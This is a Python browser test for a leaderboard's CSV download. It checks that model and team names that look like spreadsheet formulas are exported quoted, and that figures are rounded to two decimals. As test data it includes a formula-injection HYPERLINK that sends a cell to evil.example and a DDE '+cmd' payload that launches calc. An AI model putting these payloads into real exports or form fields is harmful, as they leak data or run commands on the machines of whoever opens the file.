"""The board page's Download CSV in Chromium at 1440 and 390 px: a name a spreadsheet would run as
a formula is written quoted, as the public CSV writes it (attacks.md turn 4 #5: the browser's
export wrote `=HYPERLINK(...)` and `+cmd|...` raw), and no figure has more decimals than the board
shows (turn 4 #6: the export carried full doubles such as 56.012176560121766)."""

from __future__ import annotations

import csv
import io
import re

import pytest

from leaderboard.config import Settings
from leaderboard.service import Leaderboard
from submissions.records import Identity
from submissions.request import SubmitRequest
from tests.support import demo
from tests.support.submissions import form
from tests.ui.conftest import WIDTHS, shot, start_app

FORMULA_MODEL = '=HYPERLINK("http://evil.example/?"&A1,"click")'
FORMULA_TEAM = "+cmd|' /C calc'!A0"
FIGURE = re.compile(r"^-?\d+(\.\d+)?$")


@pytest.fixture(scope="module")
def server(tmp_path_factory):
    app = start_app(tmp_path_factory, "csv-app", LEADERBOARD_REFRESH_SECONDS="2")
    tmp = tmp_path_factory.mktemp("csv-files")
    lines = demo.scb_submission(demo.scb_gold(0), 0.7, "bbox_good", seed=11, box_format="xyxy")
    path = demo.write_jsonl(tmp / "formula.jsonl", lines)
    writer = Leaderboard(Settings(data_dir=app.data_dir))  # another process of the same store, as the CLI is
    who = Identity("sybil3")
    answer = writer.submissions.submit(
        SubmitRequest("scb", path, form(FORMULA_MODEL, FORMULA_TEAM, visibility="public"), who)
    )
    assert answer.result is not None, answer
    yield app
    app.stop()


@pytest.mark.parametrize("width", list(WIDTHS))
def test_download_csv_quotes_formulas_and_carries_figures_as_shown(browser, server, width):
    w, h = WIDTHS[width]
    context = browser.new_context(viewport={"width": w, "height": h}, accept_downloads=True)
    page = context.new_page()
    page.set_default_timeout(60_000)
    try:
        for _ in range(30):  # the app re-reads the store every 2 s and re-bakes the page
            page.goto(server.url + "/?bench=scb&view=all")
            page.wait_for_selector("#board-table .tabulator-row")
            if page.locator("#board-table", has_text="HYPERLINK").count():
                break
            page.wait_for_timeout(1000)
        shot(page, f"csv-formula-{width}")
        with page.expect_download() as info:
            page.locator("#download-csv:visible, #download-csv-2:visible").first.click()  # a phone's sits lower
        rows = list(csv.reader(io.StringIO(info.value.path().read_text())))
    finally:
        context.close()
    cells = [cell for row in rows[1:] for cell in row]
    assert "'" + FORMULA_MODEL in cells
    no_team = width == 390 and "Team" not in rows[0]  # a phone's table has no team column
    assert "'" + FORMULA_TEAM in cells or no_team
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not FIGURE.match(c))]
    figures = [c for c in cells if FIGURE.match(c) and "." in c]
    assert figures and all(len(c.split(".")[1]) <= 2 for c in figures), [c for c in figures if len(c.split(".")[1]) > 2]
